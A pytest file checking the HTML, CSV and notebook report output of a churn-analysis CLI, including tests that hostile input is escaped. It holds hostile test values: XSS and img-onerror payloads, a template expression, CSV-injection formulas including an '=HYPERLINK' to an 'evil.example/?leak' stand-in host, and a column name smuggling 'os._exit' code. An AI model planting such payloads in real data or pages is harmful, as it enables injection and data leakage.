"""``churnsurv report``: the command, what it writes, hostile input, determinism, the browser view.

Full report runs are few and shared (each takes a few seconds, most of it kernel start-up):
one Telco run (module fixture), two runs of a small hostile file (determinism), one re-run of
its notebook as a user would in Jupyter, and one run with too few events for a Cox model.
The runs go through a subprocess, exactly as a user types the command.
"""

from __future__ import annotations

import ast
import html.parser
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import nbformat
import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import churnsurv as cs
from churnsurv.exceptions import DataValidationError
from churnsurv.report import run as run_module
from churnsurv.report.cli import main
from churnsurv.report.io import (
    file_sha256,
    formula_columns,
    read_input,
    read_table,
    sbg_periods,
    sbg_tail,
)
from churnsurv.report.output import MANIFEST
from churnsurv.report.run import coerce_event_value, template_path

TELCO_CSV = Path(__file__).parents[2] / "datasets" / "telco" / "Telco-Customer-Churn.csv"
SCRIPT = "<script>alert(1)</script>"
TEMPLATE = "{{7*7}}"
IMG_ONERROR = '<img src=x onerror="alert(2)">'
DOLLARS = "$5_$10"  # matplotlib would read "$5_$" as maths and fail to draw the figure
FORMULA = "@SUM(1+1)"  # a spreadsheet would run this (and the =HYPERLINK id) as a formula
HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")'

# What the issue asks for in tables/ (file names of the CSVs).
REQUIRED_TABLES = {
    "km_summary",
    "at_risk",
    "logrank",
    "pairwise_logrank",
    "churn_rates",
    "cox_summary",
    "ph_check",
    "clv_by_segment",
    "value_at_risk",
    "excluded_rows",
    "about",
}


def run_cli(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "churnsurv", *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        timeout=300,
    )


class _Page(html.parser.HTMLParser):
    """Tags with their attributes, and the text nodes (with their enclosing tag) of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.texts: list[tuple[str, str]] = []
        self._stack: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag not in ("img", "br", "meta", "link", "hr", "input"):
            self._stack.append(tag)

    def handle_endtag(self, tag):
        if tag in self._stack:
            while self._stack and self._stack.pop() != tag:
                pass

    def handle_data(self, data):
        self.texts.append((self._stack[-1] if self._stack else "", data))

    def text(self) -> str:
        return "".join(t for _, t in self.texts)


def parse(page: str) -> _Page:
    parser = _Page()
    parser.feed(page)
    parser.close()
    return parser


def hostile_frame(n: int = 120) -> pd.DataFrame:
    """A small customer table whose names and values are markup, template code and quotes."""
    rng = np.random.default_rng(7)
    plan = np.array([TEMPLATE, SCRIPT, IMG_ONERROR, "basic", FORMULA])[np.arange(n) % 5]
    region = np.array([DOLLARS, SCRIPT])[(np.arange(n) // 2) % 2]
    hazard = np.where(plan == "basic", 0.08, 0.04)
    tenure = np.minimum(np.ceil(rng.exponential(1 / hazard)), 36).astype(int)
    churned = (tenure < 36) & (rng.random(n) < 0.8)
    ids = [f"c{i:04d}" for i in range(n)]
    ids[1] = SCRIPT  # an id that is itself a script tag
    ids[2] = "$id_$2"  # ids label the value-at-risk figure
    ids[int(np.flatnonzero(~churned)[0])] = HYPERLINK  # an active customer: in value_at_risk.csv
    return pd.DataFrame(
        {
            "id": ids,
            "tenure": tenure,
            "status": np.where(churned, TEMPLATE, "<i>active</i>"),
            "plan": plan,
            SCRIPT: region,
            'spend"); import os; os._exit(3) #': np.round(20 + 10 * rng.random(n), 2),
        }
    )


HOSTILE_ARGS = [
    "--id", "id", "--duration", "tenure", "--event", "status", "--event-value", TEMPLATE,
    "--by", "plan", "--by", SCRIPT, "--formula", "plan",
    "--margin", 'spend"); import os; os._exit(3) #', "--horizon", "24", "--within", "3",
    "--seed", "3",
]  # fmt: skip


# --------------------------------------------------------------------------------------------
# fixtures: the few full runs
# --------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def telco(tmp_path_factory):
    out = tmp_path_factory.mktemp("telco") / "report"
    proc = run_cli("report", "--dataset", "telco", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    return out, proc


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    csv = folder / "customers <b>&amp; {{7*7}}.csv"
    hostile_frame().to_csv(csv, index=False)
    runs = []
    for name in ("run1", "run2"):
        proc = run_cli("report", str(csv), *HOSTILE_ARGS, "--out", str(folder / name), "--quiet")
        assert proc.returncode == 0, proc.stderr
        runs.append(folder / name)
    return csv, runs


def tables_of(out: Path) -> dict[str, pd.DataFrame]:
    # timings.csv holds the run's wall time and memory per section: they differ by design
    tables = sorted(p for p in (out / "tables").glob("*.csv") if p.stem != "timings")
    frames = {p.stem: pd.read_csv(p) for p in tables}
    # the run's time and its command line (which names the output folder) differ by design
    about = frames["about"]
    frames["about"] = about[~about.iloc[:, 0].isin(["generated", "command"])]
    return frames


# --------------------------------------------------------------------------------------------
# the Telco report (what `make demo` runs)
# --------------------------------------------------------------------------------------------
def test_telco_report_writes_everything(telco):
    out, proc = telco
    assert (out / "report.html").stat().st_size > 100_000
    nb = nbformat.read(out / "report.ipynb", as_version=4)
    nbformat.validate(nb)
    tables = {p.stem for p in (out / "tables").glob("*.csv")}
    assert REQUIRED_TABLES <= tables, REQUIRED_TABLES - tables
    figures = {p.stem for p in (out / "figures").glob("*.png")}
    assert {"km_all", "km_by_contract", "km_by_internetservice", "churn_rates"} <= figures
    assert {"cox_hazard_ratios", "value_at_risk", "clv_by_contract"} <= figures
    # stdout says where the report is; stderr shows per-cell progress with elapsed time
    assert str(out / "report.html") in proc.stdout
    assert "churnsurv report: [ 1/" in proc.stderr and " s  1. The data" in proc.stderr
    assert "Traceback" not in proc.stderr


def test_telco_numbers_match_the_library(telco):
    out, _ = telco
    km = pd.read_csv(out / "tables" / "km_summary.csv")
    # Telco PROVENANCE.md: 7,043 customers, 1,869 churned.
    everyone = km[km["by"] == "(all customers)"].iloc[0]
    assert everyone["n"] == 7043 and everyone["events"] == 1869
    contract = km[km["by"] == "Contract"].set_index("segment")
    # Same numbers as the KaplanMeier docstring (median 35 months for month-to-month).
    assert contract.loc["Month-to-month", "median"] == 35
    assert contract.loc["Month-to-month", "retention_12"] == pytest.approx(0.703, abs=5e-4)
    cox = pd.read_csv(out / "tables" / "cox_summary.csv").set_index("term")
    assert cox.loc["Contract[T.Two year]", "hr"] < 0.1
    ph = pd.read_csv(out / "tables" / "ph_check.csv")
    assert "GLOBAL" in set(ph["term"])
    var = pd.read_csv(out / "tables" / "value_at_risk.csv")
    assert len(var) == 7043 - 1869  # every active customer, ranked
    assert var["value_at_risk"].is_monotonic_decreasing
    about = pd.read_csv(out / "tables" / "about.csv", index_col=0)["value"]
    assert about["input sha256"] == file_sha256(TELCO_CSV)
    assert about["seed"] == "0"
    assert about["command"] == "churnsurv report --dataset telco --out " + str(out)


def test_every_figure_has_alt_text_and_nothing_loads_from_the_network(telco, hostile):
    """Issue #17: alt text on every image; no MathJax or other script from a CDN."""
    out, _ = telco
    page_text = (out / "report.html").read_text(encoding="utf-8")
    page = parse(page_text)
    images = [a for tag, a in page.tags if tag == "img"]
    assert len(images) >= 8
    alts = [a.get("alt", "") for a in images]
    assert all(alt.startswith("Figure: ") and len(alt) > 20 for alt in alts), alts
    assert any("legend: Month-to-month, One year, Two year" in alt for alt in alts)
    assert any("rows: Contract: One year (vs Month-to-month)" in alt for alt in alts)
    assert not re.search(r"(src|href)\s*=\s*[\"']?https?:", page_text, re.I)
    assert "mathjax" not in page_text.lower()
    # labels from the data reach the alt text escaped, never as markup
    hostile_page = parse((hostile[1][0] / "report.html").read_text(encoding="utf-8"))
    assert all(a.get("alt", "").startswith("Figure") for t, a in hostile_page.tags if t == "img")
    assert not [a for t, a in hostile_page.tags if t == "img" and "onerror" in a]


def test_telco_html_is_self_contained_with_figures_tables_and_footer(telco):
    out, _ = telco
    page_text = (out / "report.html").read_text(encoding="utf-8")
    page = parse(page_text)
    names = [tag for tag, _ in page.tags]
    assert "script" not in names  # nothing runs, nothing loads from the network
    images = [a.get("src", "") for tag, a in page.tags if tag == "img"]
    assert len(images) >= 8 and all(src.startswith("data:image/png;base64,") for src in images)
    assert not [a for tag, a in page.tags if tag == "link" and a.get("href", "").startswith("http")]
    assert names.count("table") >= 15
    text = page.text()
    for heading in (
        "1. The data",
        "Rows excluded by validation",
        "2. Retention curves (Kaplan–Meier)",
        "3. Do segments differ? Log-rank tests",
        "4. Churn and retention rates per period",
        "5. What drives churn? Cox proportional-hazards model",
        "Proportional-hazards check",
        "6. What are customers worth? CLV and value at risk",
        "7. Why customers leave: churn reasons",
        "8. Early warning: who will churn next, and whom to call",
        "Hold-out check: fitted on",
        "Call list: who is likely to churn within 6 months",
        "How many to call: list size by expected net value",
        "9. Experiment: comparing two retention strategies",
        "About this report",
    ):
        assert heading in text, heading
    assert "This section was skipped because no churn reason column was given (--reason)." in text
    assert "This section was skipped because no arm column was given (--arm)." in text
    assert file_sha256(TELCO_CSV) in text
    for package in ("churnsurv", "numpy", "pandas", "lifelines", "statsmodels"):
        assert f"version: {package}" in text
    assert "churnsurv report --dataset telco" in text
    assert "def show_table" not in text and "import churnsurv" not in text  # no code shown


def test_report_notebook_keeps_code_and_injected_parameters(telco):
    out, _ = telco
    nb = nbformat.read(out / "report.ipynb", as_version=4)
    tags = [c.metadata.get("tags", []) for c in nb.cells]
    injected = [c for c, t in zip(nb.cells, tags, strict=True) if "injected-parameters" in t]
    assert len(injected) == 1 and "dataset = " in injected[0].source
    assert any("KaplanMeier().fit(data" in c.source for c in nb.cells)
    errors = [o for c in nb.cells for o in c.get("outputs", []) if o.output_type == "error"]
    assert errors == []


EARLY_WARNING_TABLES = {
    "early_warning_holdout",
    "early_warning_calibration",
    "early_warning_gains",
    "early_warning_guard",
    "call_list",
    "call_list_flagged",
    "profit_threshold",
}


def telco_cox_data():
    """The Cox model's data as the report's notebook prepares it (section 5)."""
    options = run_module.DATASETS["telco"]
    return cs.prepare(
        cs.datasets.load_telco(),
        on_invalid="drop",
        covariates=formula_columns(options["formula"]) + options["by"],
        id=options["id_col"],
        duration=options["duration"],
        event=options["event"],
        event_value=options["event_value"],
        time_unit="month",
        segments=options["by"],
        margin=options["margin"],
    )


def test_telco_early_warning_section_matches_the_library(telco):
    """Section 8 (issue 13): hold-out metrics, calibration and gains, the guarded call list
    with bootstrap intervals, and the list size by profit; every number recomputed here from
    the public API with the report's defaults (seed 0, within 6, horizon 60, 10% a year)."""
    out, _ = telco
    assert EARLY_WARNING_TABLES <= {p.stem for p in (out / "tables").glob("*.csv")}
    assert {"early_warning_calibration_gains", "call_list"} <= {
        p.stem for p in (out / "figures").glob("*.png")
    }
    files = json.loads((out / MANIFEST).read_text(encoding="utf-8"))["files"]
    for name in EARLY_WARNING_TABLES:
        assert f"tables/{name}.csv" in files, name
    assert "figures/early_warning_calibration_gains.png" in files
    data = telco_cox_data()
    cox = cs.CoxModel(run_module.DATASETS["telco"]["formula"]).fit(data)
    _, tail = sbg_tail(data, 60)
    ew = cs.early_warning(cox, data, within=6, horizon=60, annual_discount_rate=0.1, tail=tail)
    calls = pd.read_csv(out / "tables" / "call_list.csv", dtype={"customerID": str})
    calls = calls.set_index("customerID")
    assert calls.index.tolist() == ew.call_list.index.tolist()  # the same order
    np.testing.assert_allclose(calls["p_churn"], ew.call_list["p_churn"], rtol=1e-12)
    assert not calls["beyond_support"].any() and calls["rank"].tolist()[:3] == [1, 2, 3]
    inside = (calls["ci_lower"] <= calls["p_churn"]) & (calls["p_churn"] <= calls["ci_upper"])
    assert inside.mean() > 0.95  # 30 bootstrap refits bracket the estimate
    flagged = pd.read_csv(out / "tables" / "call_list_flagged.csv")
    assert len(calls) + len(flagged) == 7043 - 1869 and flagged["beyond_support"].all()
    cost = float(np.median(data.frame[data.margin]))  # the stated default offer cost
    pt = cs.profit_threshold(ew, offer_cost=cost, success_rate=0.25)
    mine = pd.read_csv(out / "tables" / "profit_threshold.csv")
    np.testing.assert_allclose(mine["expected_net_value"], pt.summary["expected_net_value"])
    text = parse((out / "report.html").read_text(encoding="utf-8")).text()
    assert f"calling the top {int(pt.best['n_contacted'])} customers" in text
    # hold-out: the same split, the guarded model refitted on 70%, judged on 30%
    train, test = cs.split_customers(data, test_size=0.3, rng=0)
    guarded = cs.CoxModel(ew.model.formula, strata=ew.model.strata).fit(train)
    ev = cs.evaluate(guarded, test, times=[6, 12, 24], train_data=train)
    holdout = pd.read_csv(out / "tables" / "early_warning_holdout.csv")
    row = holdout[holdout["model"] == "guarded model (call list)"].reset_index(drop=True)
    for col in ("auc", "uno_c", "brier", "null_brier", "ipa", "top_decile_lift"):
        np.testing.assert_allclose(row[col], ev.summary[col], rtol=1e-10, err_msg=col)
    assert (row["brier"] < row["null_brier"]).all()  # the model beats knowing nothing


def test_experiment_section_matches_compare_arms(tmp_path):
    """--arm (issue 15) on the simulated hotel case (curves cross): KM per arm with the at-risk
    table, tests, RMST contrasts, piecewise hazard ratios, net value with the campaign costs,
    the decision table; numbers recomputed with cs.compare_arms (its own tests hold the R
    references: tests/reference/experiment_arms.R)."""
    frame = cs.simulate_hotel(n=800, rng=5).frame.copy()
    frame["strategy"] = frame["strategy"].replace({"promotion": SCRIPT})  # data stays text
    csv = tmp_path / "hotel.csv"
    frame.to_csv(csv, index=False)
    args = [
        "--id", "guest_id", "--duration", "tenure", "--event", "churned", "--by", "tier",
        "--margin", "margin", "--arm", "strategy", "--arm-cost", f"{SCRIPT}=40",
        "--arm-cost", "relationship=10", "--arm-cost-per-period", "relationship=4",
        "--n-boot", "20", "--seed", "2",
    ]  # fmt: skip
    out = tmp_path / "out"
    proc = run_cli("report", str(csv), *args, "--out", str(out), "--quiet")
    assert proc.returncode == 0, proc.stderr
    tables = {p.stem for p in (out / "tables").glob("*.csv")}
    expected = {
        "experiment_at_risk", "experiment_tests", "experiment_rmst", "experiment_rmst_contrast",
        "experiment_rmst_curve", "experiment_hazard_ratios", "experiment_net_value",
        "experiment_decision",
    }  # fmt: skip
    assert expected <= tables
    figures = {"experiment_km", "experiment_rmst_difference", "experiment_hazard_ratios"}
    assert figures <= {p.stem for p in (out / "figures").glob("*.png")}
    files = json.loads((out / MANIFEST).read_text(encoding="utf-8"))["files"]
    assert {f"tables/{t}.csv" for t in expected} <= set(files)
    data = cs.prepare(
        pd.read_csv(csv, dtype={"guest_id": str}), id="guest_id", duration="tenure",
        event="churned", covariates=["strategy"], segments=["tier"], margin="margin",
    )  # fmt: skip
    contrast = pd.read_csv(out / "tables" / "experiment_rmst_contrast.csv")
    res = cs.compare_arms(
        data, "strategy", horizons=contrast["tau"].tolist(), margin="margin",
        cost_per_customer={SCRIPT: 40.0, "relationship": 10.0},
        cost_per_period={"relationship": 4.0}, annual_discount_rate=0.1, n_boot=20, rng=2,
    )  # fmt: skip
    follow_up = res.km.curves_.groupby("segment")["time"].max().min()
    assert contrast["tau"].tolist() == sorted({int(follow_up * q) for q in (0.25, 0.5, 0.9)})
    np.testing.assert_allclose(contrast["difference"], res.rmst_contrast["difference"])
    np.testing.assert_allclose(contrast["std_err"], res.rmst_contrast["std_err"])
    tests = pd.read_csv(out / "tables" / "experiment_tests.csv")
    np.testing.assert_allclose(tests["statistic"], res.tests["statistic"])
    hr = pd.read_csv(out / "tables" / "experiment_hazard_ratios.csv")
    np.testing.assert_allclose(hr["hr"], res.hazard_ratios["hr"])
    value = pd.read_csv(out / "tables" / "experiment_net_value.csv")
    np.testing.assert_allclose(value["difference"], res.value.summary["difference"])
    decision = pd.read_csv(out / "tables" / "experiment_decision.csv", keep_default_na=False)
    assert decision["rmst_winner"].tolist() == res.decision["rmst_winner"].astype(str).tolist()
    page = parse((out / "report.html").read_text(encoding="utf-8"))
    assert "script" not in [tag for tag, _ in page.tags]  # the markup arm stays text
    text = page.text()
    assert "9. Experiment: comparing two retention strategies" in text
    assert "Decision table: which arm wins at each horizon" in text and SCRIPT in text
    assert "The early-warning section was skipped because it needs the Cox model" in text


def test_dated_data_get_an_out_of_time_backtest(tmp_path):
    """With dates the early-warning section refits at three cutoffs (2, 3 and 4 windows before
    the end of the data) and scores the next --within months: cs.backtest's numbers."""
    base = cs.simulate_customers(2000, rng=7)
    csv = tmp_path / "dated.csv"
    base.customers.to_csv(csv, index=False)
    args = [
        "--id", "customer_id", "--start-date", "signup_date", "--end-date", "churn_date",
        "--cutoff", "2022-12-31", "--formula", "plan + channel", "--margin", "monthly_margin",
        "--n-boot", "2",
    ]  # fmt: skip
    out = tmp_path / "out"
    proc = run_cli("report", str(csv), *args, "--out", str(out), "--quiet")
    assert proc.returncode == 0, proc.stderr
    mine = pd.read_csv(out / "tables" / "early_warning_backtest.csv")
    data = cs.prepare(
        pd.read_csv(csv, dtype={"customer_id": str}), id="customer_id",
        start_date="signup_date", end_date="churn_date", cutoff="2022-12-31",
        covariates=["plan", "channel"], margin="monthly_margin",
    )  # fmt: skip
    cutoffs = ["2020-12-31", "2021-06-30", "2021-12-31"]
    assert mine["cutoff"].str[:10].tolist() == cutoffs
    bt = cs.backtest(cs.CoxModel("plan + channel"), data, cutoffs=cutoffs, within=6)
    for col in ("n_active", "auc", "brier", "null_brier", "observed_rate"):
        np.testing.assert_allclose(mine[col], bt.summary[col], rtol=1e-10, err_msg=col)
    text = parse((out / "report.html").read_text(encoding="utf-8")).text()
    assert "Out-of-time backtest: fitted on the past, judged on what came next" in text


# --------------------------------------------------------------------------------------------
# the page in a real browser
# --------------------------------------------------------------------------------------------
def _chromium() -> str | None:
    for name in ("chromium", "chromium-browser", "google-chrome"):
        if shutil.which(name):
            return shutil.which(name)
    return None


@pytest.mark.skipif(_chromium() is None, reason="no Chromium (apt-get install -y chromium)")
def test_report_renders_in_headless_chromium(telco, tmp_path):
    out, _ = telco
    flags = [
        "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync",
        "--disable-dev-shm-usage", f"--user-data-dir={tmp_path / 'profile'}",
    ]  # fmt: skip
    url = (out / "report.html").as_uri()
    dom = subprocess.run(
        [_chromium(), *flags, "--dump-dom", url], capture_output=True, text=True, timeout=120
    ).stdout
    page = parse(dom)
    images = [a for tag, a in page.tags if tag == "img"]
    assert len(images) >= 8
    assert all(a["src"].startswith("data:image/png;base64,") for a in images)
    assert sum(tag == "table" for tag, _ in page.tags) >= 15
    text = page.text()
    assert "1. The data" in text and "About this report" in text
    assert "8. Early warning: who will churn next, and whom to call" in text
    assert "Month-to-month" in text and "customerID" in text
    shot = tmp_path / "report.png"
    subprocess.run(
        [_chromium(), *flags, "--hide-scrollbars", "--window-size=1200,3000",
         f"--screenshot={shot}", url],
        capture_output=True, timeout=120,
    )  # fmt: skip
    assert shot.exists() and shot.stat().st_size > 50_000  # a rendered page, not a blank one


# --------------------------------------------------------------------------------------------
# hostile input, determinism, re-running the notebook
# --------------------------------------------------------------------------------------------
def test_hostile_names_and_values_are_text_never_markup(hostile):
    _, runs = hostile
    raw = (runs[0] / "report.html").read_text(encoding="utf-8")
    page = parse(raw)
    names = [tag for tag, _ in page.tags]
    assert "script" not in names and "i" not in names and "b" not in names
    # every <img> is one of our figures: the <img onerror> value never became an element
    assert all(a.get("src", "").startswith("data:image/png") for t, a in page.tags if t == "img")
    assert not any("onerror" in a for _, a in page.tags)
    # the payloads are in the page as text (escaped in the source)...
    text = page.text()
    for payload in (SCRIPT, TEMPLATE, IMG_ONERROR, "<i>active</i>"):
        assert payload in text, payload
    assert SCRIPT not in raw and IMG_ONERROR not in raw
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in raw
    # ...inside table cells and paragraphs, and the template expression was not evaluated
    cells = {t for tag, t in page.texts if tag in ("td", "th")}
    assert SCRIPT in cells and TEMPLATE in cells and IMG_ONERROR in cells
    assert "{{ 7*7 }}" not in text and "Retention curves" in text


def test_hostile_values_survive_into_the_tables(hostile):
    _, runs = hostile
    km = pd.read_csv(runs[0] / "tables" / "km_summary.csv")
    assert {SCRIPT, TEMPLATE, IMG_ONERROR, "basic", "'" + FORMULA} <= set(km["segment"])
    assert SCRIPT in set(km["by"]) and DOLLARS in set(km["segment"])
    # every figure was drawn, "$5_$10" in legends and ticks and "$id_$2" among the ids included
    figures = {p.stem for p in (runs[0] / "figures").glob("*.png")}
    assert {"km_all", "churn_rates", "cox_hazard_ratios", "value_at_risk"} <= figures
    assert sum(f.startswith("km_by_") for f in figures) == 2
    assert sum(f.startswith("clv_by_") for f in figures) == 2
    cox = pd.read_csv(runs[0] / "tables" / "cox_summary.csv")
    assert any(SCRIPT in term for term in cox["term"])
    about = pd.read_csv(runs[0] / "tables" / "about.csv", index_col=0)["value"]
    assert SCRIPT in about["command"] and "os._exit(3)" in about["command"]


def test_no_cell_of_any_table_reads_as_a_spreadsheet_formula(hostile):
    """OWASP CSV injection: text starting with = + - @ tab CR gets a leading quote (issue #12)."""
    import csv

    _, runs = hostile
    cells = 0
    for path in sorted((runs[0] / "tables").glob("*.csv")):
        with open(path, newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    cells += 1
                    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                        float(cell)  # only numbers may start so: -0.35 stays a number
    assert cells > 1000
    var = (runs[0] / "tables" / "value_at_risk.csv").read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(""http://evil.example/?leak"",""click"")"' in var
    km = (runs[0] / "tables" / "km_summary.csv").read_text(encoding="utf-8")
    assert ",'@SUM(1+1)," in km and ",@SUM" not in km
    cox = pd.read_csv(runs[0] / "tables" / "cox_summary.csv")
    assert (cox["log_hr"] < 0).any() and cox["log_hr"].dtype == float  # numbers stay numbers


@pytest.fixture(scope="module")
def display_helpers(tmp_path_factory):
    """The template's own display helpers (parameters and setup cells), run in this process."""
    import os

    nb = nbformat.read(template_path(), as_version=4)
    cells = {c.get("id"): c.source for c in nb.cells}
    namespace: dict = {}
    here = os.getcwd()
    os.chdir(tmp_path_factory.mktemp("helpers"))  # the setup cell makes tables/ and figures/
    try:
        exec(cells["parameters"], namespace)  # noqa: S102 -- the shipped template
        exec(cells["setup"], namespace)  # noqa: S102
    finally:
        os.chdir(here)
    return namespace


ALLOWED_TAGS = {"p", "h3", "table", "thead", "tbody", "tr", "th", "td"}
TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=40)


@settings(
    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(label=TEXT, column=TEXT, cell=TEXT)
def test_any_text_from_the_data_is_shown_as_text(display_helpers, label, column, cell):
    """Property: whatever a name or value holds, the page shows it as text, never as markup.

    Control characters are left out of the strategy: pandas shows a newline in a cell as the
    two characters backslash and n, which is text too but not the same text.
    """
    shown: list[str] = []
    display_helpers["display"] = lambda obj: shown.append(obj.data)
    display_helpers["show_text"](label, "h3")
    display_helpers["show_note"](label)
    frame = pd.DataFrame({column: [cell]}, index=pd.Index([label], name="segment"))
    display_helpers["show_table"](frame, None)
    page = parse("".join(shown))
    assert {tag for tag, _ in page.tags} <= ALLOWED_TAGS
    assert {name for _, attrs in page.tags for name in attrs} <= {"class", "border", "style"}
    text = " ".join(page.text().split())
    for value in (label, column, cell):
        assert " ".join(value.split()) in text


def test_same_input_options_and_seed_give_the_same_numbers(hostile):
    _, (run1, run2) = hostile
    first, second = tables_of(run1), tables_of(run2)
    assert first.keys() == second.keys() and REQUIRED_TABLES <= set(first)
    for name in first:
        pd.testing.assert_frame_equal(first[name], second[name], check_exact=True, obj=name)
    for png in (run1 / "figures").glob("*.png"):
        assert png.read_bytes() == (run2 / "figures" / png.name).read_bytes(), png.name


def test_report_notebook_reruns_standalone_with_the_same_numbers(hostile, tmp_path):
    """Open report.ipynb in another folder and run all cells, as a user would in Jupyter."""
    from nbclient import NotebookClient

    _, (run1, _) = hostile
    nb = nbformat.read(run1 / "report.ipynb", as_version=4)
    for cell in nb.cells:
        cell.outputs = [] if cell.cell_type == "code" else cell.get("outputs")
    NotebookClient(
        nb, timeout=300, kernel_name="python3", resources={"metadata": {"path": str(tmp_path)}}
    ).execute()
    again = tables_of(tmp_path)
    for name, frame in tables_of(run1).items():
        pd.testing.assert_frame_equal(frame, again[name], check_exact=True, obj=name)


def test_dates_parquet_and_too_few_events_skip_the_cox_model_only(tmp_path):
    """Signup/cancel dates with a cutoff, read from Parquet (CSV without pyarrow), 4 churns."""
    rng = np.random.default_rng(11)
    n = 40
    signup = pd.Timestamp("2023-01-01") + pd.to_timedelta(rng.integers(0, 365, n), unit="D")
    cancelled = pd.Series(pd.NaT, index=range(n), dtype="datetime64[ns]")
    cancelled[:4] = signup[:4] + pd.to_timedelta(rng.integers(30, 200, 4), unit="D")
    frame = pd.DataFrame(
        {
            "id": [f"c{i:03d}" for i in range(n)],
            "signup": signup,
            "cancelled": cancelled,
            "plan": np.array(["basic", SCRIPT])[np.arange(n) % 2],
            "spend": np.round(20 + 10 * rng.random(n), 2),
        }
    )
    try:
        import pyarrow  # noqa: F401

        path = tmp_path / "few.parquet"
        frame.to_parquet(path)
    except ImportError:
        path = tmp_path / "few.csv"
        frame.to_csv(path, index=False)
    args = [
        "--id", "id", "--start-date", "signup", "--end-date", "cancelled",
        "--cutoff", "2024-06-30", "--by", "plan", "--formula", "plan", "--margin", "spend",
        "--horizon", "12",
    ]  # fmt: skip
    proc = run_cli("report", str(path), *args, "--out", str(tmp_path / "out"))
    assert proc.returncode == 0, proc.stderr
    assert "The Cox model was skipped because" in proc.stderr  # said on the terminal too
    text = parse((tmp_path / "out" / "report.html").read_text(encoding="utf-8")).text()
    assert "The Cox model was skipped because" in text and "too few events (4" in text
    assert "Value at risk was skipped because it needs the Cox model" in text
    assert "Rates per month on the calendar basis." in text
    tables = {p.stem for p in (tmp_path / "out" / "tables").glob("*.csv")}
    assert {"km_summary", "logrank", "churn_rates", "clv_by_segment"} <= tables
    assert "cox_summary" not in tables
    rates = pd.read_csv(tmp_path / "out" / "tables" / "churn_rates.csv")
    assert rates["period"].iloc[0] == "2023-01"  # calendar months
    km = pd.read_csv(tmp_path / "out" / "tables" / "km_summary.csv")
    assert km.loc[km["by"] == "(all customers)", "events"].item() == 4


def test_churn_reasons_section_matches_the_library(tmp_path):
    """--reason: incidence by reason overall and per segment, Gray's tests, value lost (issue 14).

    A status column holds the reasons (no --event), one label is markup and a '$'.
    """
    base = cs.simulate_customers(1500, rng=4, reason_shapes={"payment_failure": 0.6})
    frame = base.customers.assign(months=np.ceil(base.customers["tenure"]))
    frame["why"] = frame["reason"].astype(object).replace({"service": SCRIPT + " $x$"})
    frame = frame[["customer_id", "months", "why", "plan", "monthly_margin"]]
    csv = tmp_path / "reasons.csv"
    frame.to_csv(csv, index=False)
    args = [
        "--id", "customer_id", "--duration", "months", "--reason", "why", "--by", "plan",
        "--margin", "monthly_margin", "--within", "6", "--annual-discount-rate", "0.1",
    ]  # fmt: skip
    proc = run_cli("report", str(csv), *args, "--out", str(tmp_path / "out"), "--quiet")
    assert proc.returncode == 0, proc.stderr
    out = tmp_path / "out"
    tables = {p.stem for p in (out / "tables").glob("*.csv")}
    assert {"reason_incidence", "gray_tests", "value_lost_by_reason"} <= tables
    assert {"reasons_stacked", "reasons_by_plan", "value_lost_by_reason"} <= {
        p.stem for p in (out / "figures").glob("*.png")
    }
    data = cs.prepare(
        pd.read_csv(csv, dtype={"customer_id": str}),
        id="customer_id",
        duration="months",
        reason="why",
        segments=["plan"],
        margin="monthly_margin",
        on_invalid="drop",
    )
    fit = cs.CumulativeIncidence().fit(data, by="plan")
    inc = pd.read_csv(out / "tables" / "reason_incidence.csv", keep_default_na=False)
    mine = inc[inc["by"] == "plan"].set_index(["segment", "reason"])["incidence_12"]
    expected = fit.summary["incidence_12"]
    np.testing.assert_allclose(mine.loc[expected.index].astype(float), expected, rtol=1e-12)
    gray = pd.read_csv(out / "tables" / "gray_tests.csv").set_index("reason")
    np.testing.assert_allclose(
        gray.loc[fit.reasons_, "statistic"], fit.gray_test().summary["statistic"], rtol=1e-12
    )
    lost = pd.read_csv(out / "tables" / "value_lost_by_reason.csv")
    overall = lost[lost["by"] == "(all customers)"].set_index("reason")["value_lost"]
    ref = cs.value_lost_by_reason(
        cs.CumulativeIncidence().fit(data), horizon=6, annual_discount_rate=0.1
    ).summary.droplevel("segment")["value_lost"]
    np.testing.assert_allclose(overall.loc[ref.index], ref, rtol=1e-12)
    page = parse((out / "report.html").read_text(encoding="utf-8"))
    assert "script" not in [tag for tag, _ in page.tags]  # the markup label stays text
    text = page.text()
    assert "7. Why customers leave: churn reasons" in text and SCRIPT in text
    assert "Gray's test by plan" in text


# --------------------------------------------------------------------------------------------
# bad input: one clear message, exit status 2, nothing run
# --------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--duration", "tenur", "--event", "Churn", "--event-value", "Yes"],
         "column 'tenur': missing column"),
        (["--duration", "tenure", "--event", "Churn", "--event-value", "yes"],
         "--event-value 'yes' never occurs in column 'Churn'; its values are ['No', 'Yes']"),
        (["--duration", "tenure", "--event", "Churn", "--event-value", "Yes", "--by", "Contrct"],
         "Did you mean ['Contract']?"),
        (["--duration", "tenure", "--event", "Churn", "--event-value", "Yes",
          "--formula", "Contract + Foo"], "column 'Foo': missing column"),
        (["--duration", "tenure", "--event", "Churn", "--event-value", "Yes",
          "--formula", "Contract +"], "--formula: formula 'Contract +' could not be parsed"),
        (["--event", "Churn"], "give --duration COL"),
        (["--duration", "tenure", "--event", "Churn", "--event-value", "Yes",
